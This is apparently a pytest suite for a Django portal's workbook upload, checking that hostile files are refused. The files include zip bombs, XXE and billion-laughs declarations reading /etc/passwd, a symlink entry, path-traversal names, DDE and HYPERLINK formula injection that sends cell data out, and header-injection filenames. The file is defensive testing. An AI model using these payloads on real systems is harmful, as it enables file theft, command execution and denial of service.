"""Cases 43 to 60: hostile, broken and mistaken workbooks. Each gets its answer, quickly, and leaves nothing behind."""

from __future__ import annotations

import io
import re
import resource
import socket
import struct
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connections
from django.test import Client, override_settings
from django.urls import reverse
from openpyxl.cell.cell import MergedCell

from pelaporan.buku import arsip, baca, batas, services
from pelaporan.buku.arsip import GalatBerkas
from pelaporan.models import Berkas, Unggahan
from pemasyarakatan.inti import pemindai
from pemasyarakatan.inti.ruang_terbatas import GalatRuang, Ruang
from pemasyarakatan.jejak.models import Jejak
from tests.dunia import Dunia
from tests.konkurensi.test_hari_tenggat import peladen
from tests.pelaporan import test_buku as bantu
from upt.cakupan import SISTEM, terpasang

SEL = "F06.wbp"


@pytest.fixture
def klien(dunia: Dunia, masuk: Any) -> Client:
    return masuk(dunia.operator_ambon)


@pytest.fixture
def templat(dunia: Dunia, klien: Client) -> bytes:
    return klien.get(bantu.alamat(dunia, "buku_templat")).content


@pytest.fixture
def unggah(dunia: Dunia, klien: Client) -> Callable[..., Any]:
    def kirim(isi: bytes, nama: str = "isian.xlsx") -> Any:
        return klien.post(bantu.alamat(dunia), {"berkas": SimpleUploadedFile(nama, isi)})

    return kirim


def ubah_zip(isi: bytes, ganti: dict[str, bytes] | None = None, tambah: dict[str, bytes] | None = None) -> bytes:
    """The same workbook with entries replaced or added."""
    aliran = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(isi)) as lama, zipfile.ZipFile(aliran, "w", zipfile.ZIP_DEFLATED) as baru:
        for satu in lama.infolist():
            baru.writestr(satu.filename, (ganti or {}).get(satu.filename, lama.read(satu)))
        for nama, data in (tambah or {}).items():
            baru.writestr(nama, data)
    return aliran.getvalue()


def entri(isi: bytes, nama: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(isi)) as arsip_:
        return arsip_.read(nama)


def lembar_dengan(isi: bytes, teks: bytes) -> str:
    """Path of the sheet XML that holds a shared string (by its index) or an inline text."""
    bersama = re.findall(rb"<si>(.*?)</si>", entri(isi, "xl/sharedStrings.xml"), re.S)
    nomor = next(i for i, s in enumerate(bersama) if teks in s)
    with zipfile.ZipFile(io.BytesIO(isi)) as arsip_:
        for nama in arsip_.namelist():
            if nama.startswith("xl/worksheets/sheet") and b't="s"><v>%d</v>' % nomor in arsip_.read(nama):
                return nama
    raise AssertionError(teks)


def ditolak(jawaban: Any, kode: int, *kata: str) -> None:
    teks = jawaban.content.decode()
    assert jawaban.status_code == kode, (jawaban.status_code, teks[:1500])
    for satu in kata:
        assert satu in teks, satu
    with terpasang(SISTEM):
        assert (Unggahan.objects.count(), Berkas.objects.count()) == (0, 0), "nothing is kept of a refused file"


def cepat(kerja: Callable[[], Any], batas_detik: float = 0.05) -> None:
    """Best of three: other programs share the machine."""
    terbaik = 9.0
    for _ in range(3):
        mulai = time.process_time()
        kerja()
        terbaik = min(terbaik, time.process_time() - mulai)
    assert terbaik < batas_detik, terbaik


def tolak_arsip(isi: bytes, status: int) -> None:
    with pytest.raises(GalatBerkas) as galat:
        arsip.periksa(isi)
    assert galat.value.status == status, galat.value.pesan


# ---------------------------------------------------------------- the file itself


def test_43_kosong_dan_terlalu_besar(unggah: Any) -> None:
    ditolak(unggah(b""), 400, "Berkas kosong")
    ditolak(unggah(b"PK\x03\x04" + bytes(26 * 1024 * 1024 - 4)), 413, "25 MB")


def test_43_lebih_dari_batas_permintaan_tidak_ditulis_ke_berkas_sementara(unggah: Any, tmp_path: Path) -> None:
    with override_settings(FILE_UPLOAD_TEMP_DIR=str(tmp_path)):
        ditolak(unggah(bytes(28 * 1024 * 1024)), 413, "25 MB")
    assert not list(tmp_path.iterdir())


def test_43_panjang_yang_dinyatakan_bohong(dunia: Dunia, klien: Client) -> None:
    badan = b'--x\r\nContent-Disposition: form-data; name="berkas"; filename="a.xlsx"\r\n\r\nPK\x03\x04'
    for panjang in ("9999999", "40"):
        lain: dict[str, Any] = {"CONTENT_LENGTH": panjang, "wsgi.input": io.BytesIO(badan)}
        jawaban = klien.generic("POST", bantu.alamat(dunia), badan, "multipart/form-data; boundary=x", **lain)
        ditolak(jawaban, 400)


@pytest.mark.parametrize(
    "isi",
    [
        b"%PDF-1.7\n...", b"\x89PNG\r\n\x1a\n....", b"<html><table></table></html>", b"MZ\x90\x00....",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), b"kode;nilai\nF06.wbp;3\n",
    ],
    ids=["pdf", "png", "html", "exe", "xls", "csv"],
)  # fmt: skip
def test_44_bukan_xlsx_walau_namanya_xlsx(unggah: Any, isi: bytes) -> None:
    ditolak(unggah(isi), 415, "bukan buku kerja Excel")


def test_44_zip_lain_bukan_buku_kerja(unggah: Any) -> None:
    aliran = io.BytesIO()
    with zipfile.ZipFile(aliran, "w") as z:
        z.writestr("word/document.xml", "<w/>")
        z.writestr("[Content_Types].xml", "<Types/>")
    ditolak(unggah(aliran.getvalue()), 415)


def test_45_bom_zip_ditolak_dari_direktorinya(templat: bytes) -> None:
    bom = ubah_zip(templat, tambah={"xl/media/a.bin": bytes(240 * 1024 * 1024)})
    assert len(bom) < 1024 * 1024
    awal = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    cepat(lambda: tolak_arsip(bom, 413))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - awal < 20 * 1024


def test_45_seratus_ribu_entri(templat: bytes) -> None:
    aliran = io.BytesIO(templat)
    with zipfile.ZipFile(aliran, "a") as z:
        for n in range(100_000):
            z.writestr(f"x/{n}", b"")
    cepat(lambda: tolak_arsip(aliran.getvalue(), 413))


def test_45_direktori_yang_menyatakan_sedikit_entri(templat: bytes) -> None:
    """The end record says three entries; the directory holds many more."""
    aliran = io.BytesIO(templat)
    with zipfile.ZipFile(aliran, "a") as z:
        for n in range(1000):
            z.writestr(f"x/{n}", b"")
    isi = bytearray(aliran.getvalue())
    akhir = isi.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", isi, akhir + 8, 3, 3)
    tolak_arsip(bytes(isi), 413)


def test_45_zip_di_dalam_zip(unggah: Any, templat: bytes) -> None:
    ditolak(unggah(ubah_zip(templat, tambah={"xl/media/dalam.zip": templat})), 400)


def _bohongi(isi: bytes, nama: bytes, ukuran: int) -> bytes:
    """Declare another unpacked size in the directory and in the local header."""
    hasil = bytearray(isi)
    pusat = hasil.find(b"PK\x01\x02")
    while hasil[pusat + 46 : pusat + 46 + len(nama)] != nama:
        pusat = hasil.find(b"PK\x01\x02", pusat + 4)
    struct.pack_into("<L", hasil, pusat + 24, ukuran)
    (setempat,) = struct.unpack_from("<L", hasil, pusat + 42)
    struct.pack_into("<L", hasil, setempat + 22, ukuran)
    return bytes(hasil)


def test_46_direktori_bohong_tentang_ukuran(unggah: Any, templat: bytes) -> None:
    bom = ubah_zip(templat, tambah={"xl/media/a.bin": bytes(120 * 1024 * 1024)})
    bohong = _bohongi(bom, b"xl/media/a.bin", 1000)
    cepat(lambda: tolak_arsip(bohong, 400))
    ditolak(unggah(bohong), 400, "rusak")
    tolak_arsip(_bohongi(templat, b"xl/workbook.xml", 10), 400)
    tolak_arsip(_bohongi(templat, b"xl/workbook.xml", 999_999), 400)


# ---------------------------------------------------------------- sheets


def test_47_dimensi_bohong_tidak_dipercaya(dunia: Dunia, unggah: Any, templat: bytes) -> None:
    jalur = lembar_dengan(templat, b"F06.wbp<")
    xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', entri(templat, jalur))
    satu = bantu.unggahan(unggah(ubah_zip(templat, {jalur: xml})))
    assert satu.status == Unggahan.Status.DIPERIKSA
    assert bantu.rencana(satu) == {}


def _sisipkan(templat: bytes, isi: bytes) -> bytes:
    """Rows below the last one of a section sheet."""
    jalur = lembar_dengan(templat, b"F06.wbp<")
    return ubah_zip(templat, {jalur: entri(templat, jalur).replace(b"</sheetData>", isi + b"</sheetData>")})


def test_47_dua_ratus_ribu_baris_kosong_bergaya_tidak_mengganggu(unggah: Any, templat: bytes) -> None:
    """What Excel leaves behind when somebody coloured whole columns: nothing is in it, so nothing is refused."""
    kosong = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(500, 200_500))
    satu = bantu.unggahan(unggah(_sisipkan(templat, kosong)))
    assert satu.status == Unggahan.Status.DIPERIKSA
    assert bantu.rencana(satu) == {}


def test_47_sejuta_baris_kosong_bergaya_ditolak_sebelum_dibongkar(unggah: Any, templat: bytes) -> None:
    kosong = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(500, 1_000_500))
    isi = _sisipkan(templat, kosong)
    cepat(lambda: tolak_arsip(isi, 413))
    ditolak(unggah(isi), 413, "Unduh templat baru")


def test_47_enam_belas_ribu_kolom(unggah: Any, templat: bytes) -> None:
    """A row to the last column that Excel has: cells that are only styled are nothing, filled ones are refused."""
    kolom = [baca.huruf_kolom(n).encode() for n in range(1, 16_385)]
    assert kolom[-1] == b"XFD"
    kosong = b'<row r="900">%b</row>' % b"".join(b'<c r="%b900" s="1"/>' % k for k in kolom)
    assert bantu.unggahan(unggah(_sisipkan(templat, kosong))).status == Unggahan.Status.DIPERIKSA
    penuh = b'<row r="900">%b</row>' % b"".join(b'<c r="%b900"><v>1</v></c>' % k for k in kolom)
    jawaban = unggah(_sisipkan(templat, penuh))
    assert jawaban.status_code == 400
    assert "jauh lebih besar daripada templat" in jawaban.content.decode()


@pytest.mark.parametrize("tulisan", [b"r='XFD1048576'", b'r = "XFD1048576"', b'r\n="XFD1048576"'])
def test_47_alamat_yang_ditulis_aneh_tidak_memakan_memori_web(
    klien: Client, dunia: Dunia, unggah: Any, templat: bytes, tulisan: bytes
) -> None:
    jauh = b'<row r="1048576"><c %b><v>1</v></c></row>' % tulisan
    awal = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    jawaban = unggah(_sisipkan(templat, jauh))
    if jawaban.status_code != 400:  # the child died over it, or the reader passed by: nothing is planned either way
        assert bantu.rencana(bantu.unggahan(jawaban)) == {}
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - awal < 64 * 1024
    assert klien.get(bantu.alamat(dunia)).status_code == 200


@pytest.mark.parametrize("acuan", ["A1048576", "XFD6"])
def test_47_sel_jauh_di_luar_templat_ditolak(unggah: Any, templat: bytes, acuan: str) -> None:
    jalur = lembar_dengan(templat, b"F06.wbp<")
    baris = re.sub(r"\D", "", acuan)
    jauh = f'<row r="{baris}"><c r="{acuan}"><v>1</v></c></row></sheetData>'.encode()
    xml = entri(templat, jalur).replace(b"</sheetData>", jauh)
    ditolak(unggah(ubah_zip(templat, {jalur: xml})), 400, "jauh lebih besar daripada templat")


@pytest.mark.parametrize(
    "awal",
    [
        b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 50_000 + b'">]>',
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    ],
    ids=["billion-laughs", "kuadratik", "xxe", "dtd-luar"],
)
def test_48_deklarasi_xml_ditolak_sebelum_diurai(unggah: Any, templat: bytes, awal: bytes) -> None:
    for nama in ("xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml"):
        xml = entri(templat, nama).replace(b"?>", b"?>" + awal, 1)
        ditolak(unggah(ubah_zip(templat, {nama: xml})), 400, "deklarasi XML")


def test_48_xml_utf16_tidak_menyelundupkan_deklarasi(unggah: Any, templat: bytes) -> None:
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")
    ditolak(unggah(ubah_zip(templat, {"xl/workbook.xml": xml})), 400)


@pytest.mark.parametrize(
    "nama",
    [
        "xl/vbaProject.bin", "xl/embeddings/oleObject1.bin", "xl/externalLinks/externalLink1.xml",
        "xl/activeX/activeX1.xml", "xl/connections.xml", "xl/macrosheets/sheet1.xml",
    ],
)  # fmt: skip
def test_49_makro_objek_dan_tautan_luar_ditolak(unggah: Any, templat: bytes, nama: str) -> None:
    ditolak(unggah(ubah_zip(templat, tambah={nama: b"<x/>"})), 400, "makro, objek tertanam, atau tautan")


def test_49_xlsm_dan_hubungan_ke_luar_ditolak(unggah: Any, templat: bytes) -> None:
    jenis = entri(templat, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    ditolak(unggah(ubah_zip(templat, {"[Content_Types].xml": jenis})), 400, "makro")
    luar = b'<Relationship Id="rX" Type="http://x/image" Target="http://127.0.0.1:9/a.png" TargetMode="External"/>'
    rels = entri(templat, "xl/_rels/workbook.xml.rels").replace(b"</Relationships>", luar + b"</Relationships>")
    ditolak(unggah(ubah_zip(templat, {"xl/_rels/workbook.xml.rels": rels})), 400)


def test_49_lembar_tersembunyi_diabaikan_dan_dilaporkan(unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    for nama, keadaan in (("Rahasia", "hidden"), ("Sangat", "veryHidden")):
        ws = buku.create_sheet(nama)
        ws.sheet_state = keadaan
        ws.append(["Kode", "Bulan ini"])
        ws.append([SEL, 77])
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    assert bantu.rencana(satu) == {}
    assert [a for a in satu.rencana["abaikan"] if "Rahasia" in a]
    assert [a for a in satu.rencana["abaikan"] if "Sangat" in a]


def test_50_buku_bersandi_mendapat_pesan_jelas(unggah: Any) -> None:
    isi = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + "EncryptedPackage".encode("utf-16-le") + bytes(512)
    ditolak(unggah(isi), 400, "dikunci dengan kata sandi")


@pytest.mark.parametrize("nama", ["../../luar.xml", "/etc/x.xml", "C:\\x.xml", "xl\\..\\..\\x", "xl/WORKBOOK.xml"])
def test_51_nama_entri_liar(unggah: Any, templat: bytes, nama: str) -> None:
    ditolak(unggah(ubah_zip(templat, tambah={nama: b"<x/>"})), 400)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_51_entri_ganda_dan_tautan_simbolik(unggah: Any, templat: bytes) -> None:
    ditolak(unggah(ubah_zip(templat, tambah={"xl/workbook.xml": b"<x/>"})), 400)
    aliran = io.BytesIO(templat)
    with zipfile.ZipFile(aliran, "a") as z:
        tautan = zipfile.ZipInfo("xl/media/tautan")
        tautan.external_attr = 0o120777 << 16
        z.writestr(tautan, "/etc/passwd")
    ditolak(unggah(aliran.getvalue()), 400)


# ---------------------------------------------------------------- cells


@pytest.mark.parametrize("rumus", ["=1+1", "=SUM(E7:E8)", '=HYPERLINK("http://x?"&A1)', "=cmd|'/c calc'!A0"])
def test_52_rumus_di_sel_isian_ditolak(dunia: Dunia, klien: Client, unggah: Any, templat: bytes, rumus: str) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu.isi(buku, SEL, rumus)
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    r = bantu.rencana(satu)
    assert r["wbp"]["jenis"] == "ditolak"
    assert "bukan rumus" in r["wbp"]["pesan"]


def test_52_nilai_simpanan_rumus_tidak_dipercaya(dunia: Dunia, klien: Client, unggah: Any, templat: bytes) -> None:
    """The cached value says 12; the cell holds a formula all the same."""
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu.isi(buku, SEL, "=1+1")
    isi = bantu.tulis(buku)
    nama = next(n for n in zipfile.ZipFile(io.BytesIO(isi)).namelist() if b"<f>1+1</f>" in entri(isi, n))
    xml = re.sub(rb"<f>1\+1</f><v\s*/>|<f>1\+1</f><v></v>", b"<f>1+1</f><v>12</v>", entri(isi, nama))
    assert b"<v>12</v>" in xml
    satu = bantu.unggahan(unggah(ubah_zip(isi, {nama: xml})))
    assert bantu.rencana(satu)["wbp"]["jenis"] == "ditolak"
    bantu.putuskan(klien, satu)
    assert not bantu.sel(dunia, "wbp")


def test_53_templat_versi_lain(unggah: Any, templat: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batas, "TEMPLAT", 2)
    ditolak(unggah(templat), 400, "Templat versi 1 tidak dipakai lagi. Unduh versi terbaru, lalu salin isinya.")


def test_53_kolom_tertukar_spasi_aneh_lembar_tambahan_baris_disisipkan(
    dunia: Dunia, unggah: Any, templat: bytes
) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    lembar = buku[bantu.KLASTER]
    bantu.isi(buku, SEL, 14)
    lembar["A5"].value = "\u00a0Kode "
    for r in range(5, lembar.max_row + 1):  # this month before last month
        if isinstance(lembar.cell(r, 4), MergedCell):  # the sentence below the name of a section
            continue
        lama, kini = lembar.cell(r, 4).value, lembar.cell(r, 5).value
        lembar.cell(r, 4).value, lembar.cell(r, 5).value = kini, lama
    lembar["D5"].value = "Bulan  ini\u00a0(Januari 2026)"
    r = bantu.baris(lembar, SEL)
    lembar.cell(r, 1).value = f"\u00a0{SEL} "
    lembar.insert_rows(7)
    lembar.cell(7, 4).value = 99
    lembar.merge_cells("F8:G8")
    buku.create_sheet("Catatan saya").append(["bebas"])
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    rencana = bantu.rencana(satu)
    assert rencana["wbp"]["baru"] == "14"
    assert rencana["wbp"]["tempat"] == f"{bantu.KLASTER}!D{r + 1}"
    assert satu.rencana["galat"] == [
        [f"{bantu.KLASTER}!D7", "Baris ini tanpa kode butir, jadi tidak dibaca. Jangan menyisipkan baris."]
    ]
    assert "Lembar “Catatan saya” bukan bagian dari templat, jadi tidak dibaca." in satu.rencana["abaikan"]


def test_53_kode_asing_dan_kode_ganda(unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    lembar = buku[bantu.KLASTER]
    lembar.cell(lembar.max_row + 1, 1).value = "F06.karangan"
    lembar.cell(lembar.max_row, 5).value = 3
    lembar.cell(lembar.max_row + 1, 1).value = SEL
    lembar.cell(lembar.max_row + 1, 1).value = "F99.wbp"
    pesan = [b["pesan"] for b in _semua(bantu.unggahan(unggah(bantu.tulis(buku))))]
    assert any("tidak ada di formulir" in p for p in pesan)
    assert any(f"sudah ada di {bantu.KLASTER}" in p for p in pesan)


def _semua(satu: Unggahan) -> list[dict[str, Any]]:
    return [b for laporan in satu.rencana["laporan"] for b in laporan["butir"]]


def test_54_dua_ribu_galat_seratus_tampil_semuanya_di_salinan(klien: Client, unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    n = 0
    for lembar in buku.worksheets:
        for r in range(6, lembar.max_row + 1):
            if not lembar.cell(r, 5).protection.locked and str(lembar.cell(r, 1).value)[:1] == "F":
                lembar.cell(r, 5).value, n = "salah sekali", n + 1
    kejadian = buku["F04 Daftar kejadian"]
    for r in range(6, 56):
        for k in range(2, 15):
            kejadian.cell(r, k).value, n = "x" * 600, n + 1
    karangan = buku[bantu.KLASTER]
    akhir = karangan.max_row
    for r in range(akhir + 1, akhir + 1 + 2000 - n):  # codes that no form knows make up the rest
        karangan.cell(r, 1).value, karangan.cell(r, 5).value = f"F06.karangan_{r}", 1
    mulai = time.monotonic()
    satu = bantu.unggahan(unggah(bantu.tulis(buku)))
    halaman = klien.get(reverse("pelaporan:unggahan", args=[satu.pk])).content.decode()
    assert time.monotonic() - mulai < 6
    galat = [b for b in _semua(satu) if b["jenis"] == "ditolak"]
    assert len(galat) >= 2000
    assert f"100 dari {len(_semua(satu))} sel" in halaman
    assert f"catatan di {len(galat)} sel" in halaman
    assert halaman.count('data-judul="Keterangan"') == 100
    salinan = openpyxl.load_workbook(io.BytesIO(klien.get(reverse("pelaporan:unggahan_galat", args=[satu.pk])).content))
    komentar = sum(1 for ws in salinan for baris in ws.iter_rows() for c in baris if c.comment)
    assert komentar == len([b for b in galat if "karangan" not in b["alamat"]])
    daftar = salinan["Catatan portal"]
    assert daftar.max_row == 3 + len(galat), "every one of them, also what has no cell of its own"
    assert sum("karangan" in str(daftar.cell(r, 2).value) for r in range(4, 2004)) == 2000 - n


def test_55_berkas_yang_sama_dua_kali(dunia: Dunia, klien: Client, unggah: Any, templat: bytes) -> None:
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu.isi(buku, SEL, 14)
    isi = bantu.tulis(buku)
    pertama = bantu.unggahan(unggah(isi))
    assert bantu.unggahan(unggah(isi)).pk == pertama.pk, "an open plan of the same bytes is the same plan"
    bantu.putuskan(klien, pertama)
    jawaban = unggah(isi)
    assert jawaban.status_code == 409
    assert "identik dengan unggahan" in jawaban.content.decode()
    with terpasang(SISTEM):
        assert Unggahan.objects.count() == 1
        assert Berkas.objects.count() == 1


def test_55_baris_yang_disisipkan_tidak_menjadi_dua(dunia: Dunia, klien: Client, unggah: Any, templat: bytes) -> None:
    """Rows keep their identity in the workbook, so a corrected copy fills the same rows."""
    buku = openpyxl.load_workbook(io.BytesIO(templat))
    bantu._kejadian(buku, 6, tanggal="3/1/2026")
    bantu.putuskan(klien, bantu.unggahan(unggah(bantu.tulis(buku))))
    bantu._kejadian(buku, 6, jam="08:00")
    bantu.putuskan(klien, bantu.unggahan(unggah(bantu.tulis(buku))))
    assert len(bantu._baris_draf(dunia)) == 1


def test_56_unggahan_terputus_di_tengah(unggah: Any, templat: bytes) -> None:
    ditolak(unggah(templat[: len(templat) // 2]), 400, "rusak atau terpotong")


def test_56_sambungan_putus_di_tengah_unggahan(
    dunia_nyata: Dunia, templat_nyata: tuple[Client, bytes], tmp_path: Path
) -> None:
    """A real server and socket, cut on the way: nothing is kept, nothing breaks; the same request whole is taken."""
    klien, isi = templat_nyata
    with peladen(tmp_path) as porta:
        for porsi in (0.5, 0.99):
            assert b" 302 " not in _kirim_sebagian(porta, dunia_nyata, klien, isi, porsi)
        time.sleep(0.5)
        with terpasang(SISTEM):
            assert (Unggahan.objects.count(), Berkas.objects.count()) == (0, 0)
        assert b" 302 " in _kirim_sebagian(porta, dunia_nyata, klien, isi, 1)
    with terpasang(SISTEM):
        assert Unggahan.objects.get().status == Unggahan.Status.DIPERIKSA


def _kirim_sebagian(porta: int, dunia: Dunia, klien: Client, isi: bytes, porsi: float) -> bytes:
    """Post the file by hand and hang up after that share of the body; the first line of the answer, if any."""
    sandi = "a1b2c3d4" * 4
    kue = "; ".join([f"csrftoken={sandi}", *(f"{k}={v.value}" for k, v in klien.cookies.items() if k != "csrftoken")])
    badan = (
        f'--x\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n{sandi}\r\n'
        '--x\r\nContent-Disposition: form-data; name="berkas"; filename="a.xlsx"\r\n\r\n'
    ).encode() + isi + b"\r\n--x--\r\n"  # fmt: skip
    kepala = (
        f"POST {bantu.alamat(dunia)} HTTP/1.1\r\nHost: 127.0.0.1:{porta}\r\nCookie: {kue}\r\n"
        f"Content-Length: {len(badan)}\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", porta), timeout=30) as soket:
        soket.sendall(kepala.encode() + badan[: int(len(badan) * porsi)])
        if porsi < 1:
            return b""  # gone without a word, as a cable that was pulled
        return soket.recv(4096).partition(b"\r\n")[0]


def test_56_dua_unggahan_serentak_untuk_satu_laporan(dunia_nyata: Dunia, templat_nyata: tuple[Client, bytes]) -> None:
    """Two people, two files, the same moment: two plans; whoever saves second is told about the first, cell by cell."""
    klien, isi = templat_nyata
    berkas = []
    for nilai in (14, 15):
        buku = openpyxl.load_workbook(io.BytesIO(isi))
        bantu.isi(buku, SEL, nilai)
        berkas.append(bantu.tulis(buku))
    hasil = _serentak(
        [lambda orang, b=b: bantu.unggahan(bantu.unggah(orang, bantu.alamat(dunia_nyata), b)) for b in berkas], klien
    )
    assert len({satu.pk for satu in hasil}) == 2
    akhir = [bantu.putuskan(klien, satu) for satu in hasil]
    assert [a.hasil["tersimpan"] for a in akhir] == [1, 0]
    assert "tidak disimpan" in akhir[1].hasil["gagal"][0]["pesan"]
    pertama = bantu.rencana(hasil[0])["wbp"]["baru"]
    assert str(bantu.sel(dunia_nyata, "wbp")["nilai"]) == pertama


@pytest.fixture
def templat_nyata(dunia_nyata: Dunia) -> tuple[Client, bytes]:
    klien = Client()
    klien.force_login(dunia_nyata.operator_ambon)
    return klien, klien.get(bantu.alamat(dunia_nyata, "buku_templat")).content


def _serentak(kerja: list[Callable[[Client], Any]], klien: Client) -> list[Any]:
    """All of them at the same moment, each in its own thread with the same login."""
    gerbang, hasil = threading.Barrier(len(kerja)), [None] * len(kerja)

    def jalankan(n: int) -> None:
        orang = Client()
        orang.cookies = klien.cookies
        gerbang.wait()
        try:
            hasil[n] = kerja[n](orang)
        finally:
            connections.close_all()

    benang = [threading.Thread(target=jalankan, args=(n,)) for n in range(len(kerja))]
    [b.start() for b in benang]
    [b.join() for b in benang]
    return hasil


def test_56_dua_keputusan_serentak_satu_menang(dunia_nyata: Dunia) -> None:
    """Two presses of "Simpan" at the same moment: one saves, the other gets 409, the row is there once."""
    klien = Client()
    klien.force_login(dunia_nyata.operator_ambon)
    buku = bantu.ambil(klien, bantu.alamat(dunia_nyata, "buku_templat"))
    bantu._kejadian(buku, 6, tanggal="3/1/2026")
    satu = bantu.unggahan(bantu.unggah(klien, bantu.alamat(dunia_nyata), bantu.tulis(buku)))
    kode: list[int] = []
    gerbang = threading.Barrier(2)

    def tekan() -> None:
        orang = Client()
        orang.cookies = klien.cookies
        gerbang.wait()
        kode.append(orang.post(reverse("pelaporan:unggahan", args=[satu.pk]), {"aksi": "simpan"}).status_code)
        connections.close_all()

    benang = [threading.Thread(target=tekan) for _ in range(2)]
    [b.start() for b in benang]
    [b.join() for b in benang]
    assert sorted(kode) == [302, 409]
    assert len(bantu._baris_draf(dunia_nyata)) == 1


@pytest.mark.parametrize("hasil", ["virus", "mati"])
def test_57_pemindai(dunia: Dunia, unggah: Any, templat: bytes, monkeypatch: pytest.MonkeyPatch, hasil: str) -> None:
    def pindai(isi: bytes) -> pemindai.Hasil:
        if hasil == "mati":
            raise pemindai.PemindaiTidakMenjawab("Pemindai virus tidak menjawab. Coba unggah lagi beberapa menit lagi.")
        return pemindai.Hasil(dipindai=True, temuan="Eicar-Signature")

    dibaca = []
    monkeypatch.setattr(services, "pindai", pindai)
    monkeypatch.setattr(services, "baca_terbatas", lambda *a: dibaca.append(a))
    jawaban = unggah(templat)
    ditolak(jawaban, 400 if hasil == "virus" else 503, "Pemindai")
    assert not dibaca, "nothing is parsed"
    if hasil == "virus":
        with terpasang(SISTEM):
            assert Jejak.objects.filter(tindakan="unggahan_ditolak", rincian__temuan="Eicar-Signature").exists()


@pytest.mark.parametrize(
    ("nama", "tampil"),
    [
        ("../../etc/x.xlsx", "x.xlsx"), ("C:\\a\\b.xlsx", "b.xlsx"), ("a\u202excod.xlsx", "axcod.xlsx"),
        ("n" * 300 + ".xlsx", "n" * 120), ('a";\r\nSet-Cookie: x.xlsx', 'a";Set-Cookie: x.xlsx'),
        ("\u200b", "unggahan.xlsx"), ("CON", "CON"), ("laporan.xlsx.exe", "laporan.xlsx.exe"),
    ],
)  # fmt: skip
def test_58_nama_berkas_hanya_label(nama: str, tampil: str) -> None:
    assert services.nama_bersih(nama) == tampil


def test_58_nama_unduhan_dari_portal_sendiri(klien: Client, unggah: Any, templat: bytes) -> None:
    satu = bantu.unggahan(unggah(templat, 'a";\r\nSet-Cookie:x.xlsx'))
    jawaban = klien.get(reverse("pelaporan:unggahan_berkas", args=[satu.pk]))
    assert jawaban["Content-Disposition"] == f'attachment; filename="unggahan-{satu.pk}.xlsx"'
    assert "Set-Cookie:x" not in str(jawaban.headers)
    assert jawaban["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "isi",
    [
        "kode;nilai\n".encode("utf-16"), "kode;nilai\né".encode("cp1252"), "\ufeffkode;nilai\n".encode(),
        b'kode;"tidak tertutup\n', b"kode\x00nilai", b"x" * 1024 * 1024,
    ],
    ids=["utf16", "cp1252", "bom", "kutip", "nul", "1MB"],
)  # fmt: skip
def test_59_csv_apa_pun_ditolak_dengan_petunjuk(unggah: Any, isi: bytes) -> None:
    """Only workbooks come in here; a CSV in whatever encoding is told so and never half read."""
    ditolak(unggah(isi, "isian.csv"), 415, "simpan sebagai .xlsx")


# ---------------------------------------------------------------- the bounded child


def test_60_memori_anak_dibatasi() -> None:
    with pytest.raises(GalatRuang, match="memori"), Ruang("tests.serangan.anak_rakus", detik=5) as ruang:
        ruang.kerjakan(b"memori")


def test_60_waktu_anak_dibatasi() -> None:
    mulai = time.monotonic()
    with pytest.raises(GalatRuang, match="detik"), Ruang("tests.serangan.anak_rakus", detik=1) as ruang:
        ruang.kerjakan(b"putar")
    with pytest.raises(GalatRuang, match="detik"), Ruang("tests.serangan.anak_rakus", detik=1, jam=1) as ruang:
        ruang.kerjakan(b"tidur")
    assert time.monotonic() - mulai < 12


def test_60_anak_tanpa_django_tanpa_rahasia_tanpa_menulis_berkas() -> None:
    with Ruang("tests.serangan.anak_rakus") as ruang:
        assert ruang.kerjakan(b"lihat") == b"django=False rahasia=False tulis=False"
        assert ruang.kerjakan(b"lihat") == b"django=False rahasia=False tulis=False", "one child, many files"


def test_60_pembaca_tidak_memuat_django() -> None:
    kode = "import sys; import pelaporan.buku.baca; print('django' in sys.modules)"

    assert subprocess.check_output([sys.executable, "-c", kode], cwd=Path(__file__).parents[2]).strip() == b"False"


